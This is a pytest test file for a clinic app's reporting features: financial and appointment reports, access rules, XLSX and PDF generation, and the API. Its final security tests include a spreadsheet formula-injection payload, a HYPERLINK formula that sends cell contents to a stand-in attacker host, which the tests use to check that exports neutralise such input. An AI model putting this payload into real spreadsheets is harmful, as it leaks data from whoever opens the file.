"""Reports: their figures on known data, the request rules, the background generation
with the real worker, the files, and the API with bearer tokens."""

import datetime
import io
from decimal import Decimal

import pytest
import time_machine
from django.core.exceptions import PermissionDenied, ValidationError
from openpyxl import load_workbook
from pypdf import PdfReader

from clinicos.models import Membership, Notification
from clinicos.roles import Role
from clinicos.tests.factories import DoctorProfileFactory, UserFactory
from leads.tests.factories import LeadFactory
from reporting import reports, services
from reporting.models import Report, ReportType
from scheduling.models import AppointmentStatus
from scheduling.tests.factories import AppointmentFactory

D = Decimal
DAY = datetime.date(2026, 11, 10)
AT = datetime.datetime(2026, 11, 10, 6, 0, tzinfo=datetime.UTC)  # 11:30 in Kolkata


def test_revenue_is_money_in_less_refunds_per_day(clinic, money_day):
    data = reports.revenue(clinic, DAY, DAY, {})
    assert data.rows == [{"day": DAY, "collected": D("1430.00"), "refunded": D("100.00"), "net": D("1330.00")}]
    assert data.totals["net"] == D("1330.00")
    assert reports.revenue(clinic, DAY + datetime.timedelta(days=1), DAY + datetime.timedelta(days=30), {}).rows == []


def test_billing_summary_and_the_sales_register_count_the_cancelled_invoice_and_its_credit_note(clinic, money_day):
    summary = {row["status"]: row for row in reports.billing_summary(clinic, DAY, DAY, {}).rows}
    assert (summary["Partially paid"]["billed"], summary["Partially paid"]["paid"], summary["Partially paid"]["balance"]) == (
        D("1180.00"),
        D("1080.00"),
        D("100.00"),
    )
    assert summary["Cancelled"]["invoices"] == 1 and summary["Cancelled"]["balance"] == 0
    register = reports.sales_register(clinic, DAY, DAY, {})
    first, second, note = register.rows
    assert (first["taxable"], first["cgst"], first["sgst"], first["total"], first["hsn_sac"]) == (
        D("1000.00"),
        D("90.00"),
        D("90.00"),
        D("1180.00"),
        "999722",
    )
    assert second["number"] == money_day["second"].number and second["total"] == D("500.00")
    assert note["document"].startswith("Credit note") and note["total"] == D("-500.00")
    assert register.totals["total"] == D("1180.00"), "the credit note cancels the second invoice"


def test_the_day_book_splits_by_method_and_user(clinic, money_day, front_desk):
    rows = reports.day_book(clinic, DAY, DAY, {}).rows
    by_method = {(row["method"], row["user"]): row for row in rows}
    assert by_method[("Cash", front_desk.full_name)]["collected"] == D("600.00")
    assert by_method[("Cash", money_day["officer"].full_name)]["refunded"] == D("100.00")
    assert by_method[("Bank transfer", front_desk.full_name)]["collected"] == D("250.00")


def test_appointments_no_shows_and_doctor_performance(clinic):
    doctor = DoctorProfileFactory(clinic=clinic, user=UserFactory(full_name="Kavya Rao"))
    start = datetime.datetime(2026, 11, 10, 4, 0, tzinfo=datetime.UTC)
    for index, status in enumerate([AppointmentStatus.COMPLETED] * 3 + [AppointmentStatus.NO_SHOW, AppointmentStatus.CANCELLED]):
        at = start + datetime.timedelta(minutes=30 * index)
        AppointmentFactory(clinic=clinic, doctor=doctor, starts_at=at, ends_at=at + datetime.timedelta(minutes=15), status=status)
    summary = reports.appointment_summary(clinic, DAY, DAY, {})
    counts = {row["status"]: row["appointments"] for row in summary.rows}
    assert counts["Completed"] == 3 and counts["No-show"] == 1 and summary.totals["appointments"] == 5
    assert "No-show rate: 25.00 % of 4 appointments due." in summary.notes
    (row,) = reports.doctor_performance(clinic, DAY, DAY, {}).rows
    assert (row["booked"], row["completed"], row["no_shows"], row["no_show_rate"]) == (4, 3, 1, D("25.00"))


def test_the_lead_funnel_by_source(clinic):
    with time_machine.travel(AT):
        for source, status in [("Website", "converted"), ("Website", "new"), ("Walk-in", "lost")]:
            LeadFactory(clinic=clinic, source=source, status=status)
    rows = {row["source"]: row for row in reports.lead_funnel(clinic, DAY, DAY, {}).rows}
    assert rows["Website"]["added"] == 2 and rows["Website"]["conversion"] == D("50.00") and rows["Walk-in"]["lost"] == 1


def test_every_report_builds_on_an_empty_clinic(clinic):
    for definition in reports.REPORTS.values():
        data = definition.build(clinic, DAY, DAY, {})
        assert data.columns, definition.report_type


# --- Requests ----------------------------------------------------------------------------------


def member(clinic, user):
    return Membership.objects.get(clinic=clinic, user=user)


@pytest.mark.parametrize(
    ("report_type", "start", "end", "field"),
    [
        ("nonsense", DAY, DAY, "report_type"),
        ("revenue", None, DAY, "start_date"),
        ("revenue", DAY, DAY - datetime.timedelta(days=1), "end_date"),
        ("revenue", DAY - datetime.timedelta(days=731), DAY, "end_date"),
    ],
)
def test_bad_requests_are_refused_and_store_nothing(clinic, clinic_admin, report_type, start, end, field):
    with pytest.raises(ValidationError) as refused:
        services.report_request(
            membership=member(clinic, clinic_admin), user=clinic_admin, report_type=report_type, start_date=start, end_date=end
        )
    assert field in refused.value.message_dict and not Report.objects.exists()


def test_the_same_request_while_pending_is_the_same_report(clinic, clinic_admin, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        first, created = services.report_request(
            membership=member(clinic, clinic_admin), user=clinic_admin, report_type="revenue", start_date=DAY, end_date=DAY
        )
    again, created_again = services.report_request(
        membership=member(clinic, clinic_admin), user=clinic_admin, report_type="revenue", start_date=DAY, end_date=DAY, parameters={}
    )
    assert created and not created_again and again == first
    other, _ = services.report_request(
        membership=member(clinic, clinic_admin),
        user=clinic_admin,
        report_type="revenue",
        start_date=DAY,
        end_date=DAY + datetime.timedelta(days=1),
    )
    assert other != first


def test_who_may_ask_for_which_report(clinic, make_member):
    billing_officer, cro, nurse = make_member(Role.BILLING), make_member(Role.CRO), make_member(Role.NURSE)
    assert set(services.types_for(member(clinic, billing_officer))) == {
        "revenue",
        "service_utilization",
        "billing_summary",
        "sales_register",
        "day_book",
    }
    assert services.types_for(member(clinic, cro)) == ["lead_funnel"]
    assert services.types_for(member(clinic, nurse)) == []
    with pytest.raises(PermissionDenied):
        services.report_request(membership=member(clinic, cro), user=cro, report_type="revenue", start_date=DAY, end_date=DAY)
    doctor = DoctorProfileFactory(clinic=clinic)
    own, _ = services.report_request(
        membership=member(clinic, doctor.user),
        user=doctor.user,
        report_type="doctor_performance",
        start_date=DAY,
        end_date=DAY,
        parameters={"doctor_id": 999},
    )
    assert own.parameters == {"doctor_id": doctor.pk}, "a doctor's performance report is always their own"


# --- Generation ---------------------------------------------------------------------------------


def test_the_worker_generates_the_files_and_tells_the_requester(
    clinic, clinic_admin, money_day, run_worker, django_capture_on_commit_callbacks
):
    with django_capture_on_commit_callbacks(execute=True):
        report, _ = services.report_request(
            membership=member(clinic, clinic_admin), user=clinic_admin, report_type="sales_register", start_date=DAY, end_date=DAY
        )
    assert report.status == Report.Status.QUEUED
    run_worker()
    report.refresh_from_db()
    assert report.status == Report.Status.COMPLETED and report.progress == 100 and report.completed_at
    sheet = load_workbook(io.BytesIO(report.xlsx_file.read())).active
    header = [cell.value for cell in sheet[1]]
    assert header[:3] == ["Number", "Date", "Document"] and sheet.freeze_panes == "A2"
    assert isinstance(sheet["B2"].value, datetime.datetime) and sheet["B2"].number_format == "dd mmm yyyy"
    total_column = header.index("Total") + 1
    assert sheet.cell(row=2, column=total_column).number_format == "#,##0.00"
    last = sheet.max_row
    assert sheet.cell(row=last, column=1).value == "Total" and sheet.cell(row=last, column=total_column).value == pytest.approx(1180.0)
    text = " ".join(PdfReader(io.BytesIO(report.pdf_file.read())).pages[0].extract_text().split())
    assert "Sales register" in text and money_day["first"].number in text and "Credit note" in text
    note = Notification.objects.get(recipient=clinic_admin, kind=Notification.Kind.REPORT_READY)
    assert "is ready" in note.title and f"/reports/{report.pk}/" in note.url


def test_a_failing_generation_is_recorded_with_its_error(clinic, clinic_admin, monkeypatch, run_worker, django_capture_on_commit_callbacks):
    def broken(*args):
        raise RuntimeError("the database went away")

    monkeypatch.setitem(reports.REPORTS, "revenue", reports.ReportDefinition("revenue", "", reports.FINANCIAL, broken))
    with django_capture_on_commit_callbacks(execute=True):
        report, _ = services.report_request(
            membership=member(clinic, clinic_admin), user=clinic_admin, report_type="revenue", start_date=DAY, end_date=DAY
        )
    run_worker()
    report.refresh_from_db()
    assert report.status == Report.Status.FAILED and report.error == "RuntimeError: the database went away"
    assert Notification.objects.filter(recipient=clinic_admin, title__contains="could not be generated").exists()
    again, created = services.report_request(
        membership=member(clinic, clinic_admin), user=clinic_admin, report_type="revenue", start_date=DAY, end_date=DAY
    )
    assert created and again != report, "a failed report does not block asking again"


# --- API and pages --------------------------------------------------------------------------------


def test_the_api_contract_with_a_bearer_token(
    clinic, clinic_admin, api_client, money_day, run_worker, django_capture_on_commit_callbacks, make_member, other_clinic
):
    api = api_client(clinic_admin)
    base = f"/api/v1/clinics/{clinic.code}/reports"
    with django_capture_on_commit_callbacks(execute=True):
        asked = api.post(
            f"{base}/generate", {"report_type": "revenue", "start_date": "2026-11-10", "end_date": "2026-11-10", "parameters": {}}
        )
    assert asked.status_code == 202 and asked.json()["status"] == "queued"
    report_id = asked.json()["id"]
    assert (
        api.post(f"{base}/generate", {"report_type": "revenue", "start_date": "2026-11-10", "end_date": "2026-11-10"}).json()["id"]
        == report_id
    )
    for body in (
        {"report_type": "nope", "start_date": "2026-11-10", "end_date": "2026-11-10"},
        {"report_type": "revenue", "end_date": "2026-11-10"},
        {"report_type": "revenue", "start_date": "2026-11-10", "end_date": "2026-11-01"},
        {"report_type": "revenue", "start_date": "2020-01-01", "end_date": "2026-11-01"},
    ):
        assert api.post(f"{base}/generate", body).status_code == 422, body
    assert api.get(f"{base}/{report_id}/download?format=pdf").status_code == 409
    run_worker()
    detail = api.get(f"{base}/{report_id}").json()
    assert set(detail) >= {
        "id",
        "report_type",
        "status",
        "start_date",
        "end_date",
        "parameters",
        "error",
        "requested_by",
        "created_at",
        "completed_at",
    }
    assert detail["status"] == "completed"
    pdf = api.get(f"{base}/{report_id}/download?format=pdf")
    assert pdf.status_code == 200 and pdf["Content-Type"] == "application/pdf"
    xlsx = api.get(f"{base}/{report_id}/download?format=xlsx")
    assert xlsx.status_code == 200 and b"".join(xlsx.streaming_content)[:2] == b"PK"
    assert api.get(f"{base}?report_type=revenue").json()["count"] == 1
    assert api_client(make_member(Role.NURSE)).get(base).status_code == 403
    cro_api = api_client(make_member(Role.CRO))
    assert cro_api.get(f"{base}/{report_id}").status_code == 403, "a CRO sees lead reports only"
    assert cro_api.get(base).json()["count"] == 0
    stranger = api_client(make_member(Role.ADMIN, in_clinic=other_clinic))
    assert stranger.get(f"/api/v1/clinics/{other_clinic.code}/reports/{report_id}").status_code == 404
    enums = api.get(f"/api/v1/clinics/{clinic.code}/metadata/enums").json()
    assert {e["value"] for e in enums["report_types"]} == set(ReportType.values)


def test_the_reports_page_queues_and_shows_a_report(
    client, clinic, clinic_admin, money_day, run_worker, django_capture_on_commit_callbacks
):
    client.force_login(clinic_admin)
    page = f"/c/{clinic.code}/reports/"
    assert client.get(page).status_code == 200
    bad = client.post(page, {"report_type": "revenue", "start_date": "2026-11-10", "end_date": "2026-11-01"})
    assert bad.status_code == 422 and not Report.objects.exists()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(page, {"report_type": "revenue", "start_date": "2026-11-10", "end_date": "2026-11-10"})
    report = Report.objects.get()
    polling = client.get(page, HTTP_HX_REQUEST="true").content.decode()
    assert 'hx-trigger="every 3s"' in polling and "Queued" in polling
    run_worker()
    done = client.get(page, HTTP_HX_REQUEST="true").content.decode()
    assert "every 3s" not in done and "Completed" in done
    detail = client.get(f"/c/{clinic.code}/reports/{report.pk}/").content.decode()
    assert "1,330.00" in detail and "1,430.00" in detail
    assert client.get(f"/c/{clinic.code}/reports/{report.pk}/download/xlsx/").status_code == 200
    assert client.get(f"/c/{clinic.code}/reports/{report.pk}/download/csv/").status_code == 404


def test_the_revenue_report_equals_the_snapshots_collections(clinic, money_day):
    from billing.selectors import financial_snapshot

    with time_machine.travel(AT + datetime.timedelta(hours=5)):
        snapshot = financial_snapshot(clinic=clinic)
    assert reports.revenue(clinic, DAY.replace(day=1), DAY, {}).totals["net"] == snapshot["month_collections"] == D("1330.00")
    assert reports.revenue(clinic, DAY, DAY, {}).totals["net"] == snapshot["today_collections"]


def test_the_page_and_the_pdf_show_the_first_rows_and_the_xlsx_all(clinic, monkeypatch):
    from reporting import files

    data = reports.ReportData(
        [reports.Column("day", "Day", "date"), reports.Column("net", "Net", "money")],
        [{"day": DAY, "net": D("1.00")}] * 7,
        {"day": "Total", "net": D("7.00")},
    )
    shown = files.table(data, limit=5)
    assert len(shown["rows"]) == 5 and shown["cut"] and shown["row_count"] == 7
    assert shown["totals"][1]["text"] == "7.00"  # the totals count every row
    report = Report(clinic=clinic, report_type=ReportType.REVENUE, start_date=DAY, end_date=DAY, requested_by=UserFactory())
    sheet = load_workbook(io.BytesIO(files.xlsx(report, data))).active
    assert sheet.max_row == 1 + 7 + 1  # header, every row, totals
    monkeypatch.setattr(files, "SHOWN_ROWS", 5)
    monkeypatch.setattr(files.table, "__defaults__", (5,))
    text = "".join(page.extract_text() for page in PdfReader(io.BytesIO(files.pdf(report, data))).pages)
    assert "The first 5 of 7 rows are printed here" in text


@pytest.mark.security
def test_a_patient_named_like_a_formula_stays_text_in_the_sales_register(clinic, money_day):
    """Formula injection: what a patient typed as their name never runs in the clinic's Excel."""
    from reporting import files

    money_day["first"].patient.__class__.objects.filter(pk=money_day["first"].patient_id).update(
        first_name='=HYPERLINK("http://evil.example/?"&A1,"Click me")'
    )
    data = reports.sales_register(clinic, DAY, DAY, {})
    report = Report(clinic=clinic, report_type=ReportType.SALES_REGISTER, start_date=DAY, end_date=DAY, requested_by=UserFactory())
    sheet = load_workbook(io.BytesIO(files.xlsx(report, data))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str) and "HYPERLINK" in cell.value]
    assert cells, "the patient's name is in the register"
    assert all(cell.value.startswith("'=") and cell.data_type == "s" for cell in cells)


@pytest.mark.security
@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+91 98450 12345", "'+91 98450 12345"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Asha\x01 Rao", "Asha Rao"),
        ("Asha Rao", "Asha Rao"),
        (D("-2.50"), D("-2.50")),
        (-3, -3),
        (None, None),
    ],
)
def test_every_text_cell_is_neutralised_and_numbers_stay_numbers(value, cell):
    from clinicos.spreadsheets import safe_cell

    assert safe_cell(value) == cell
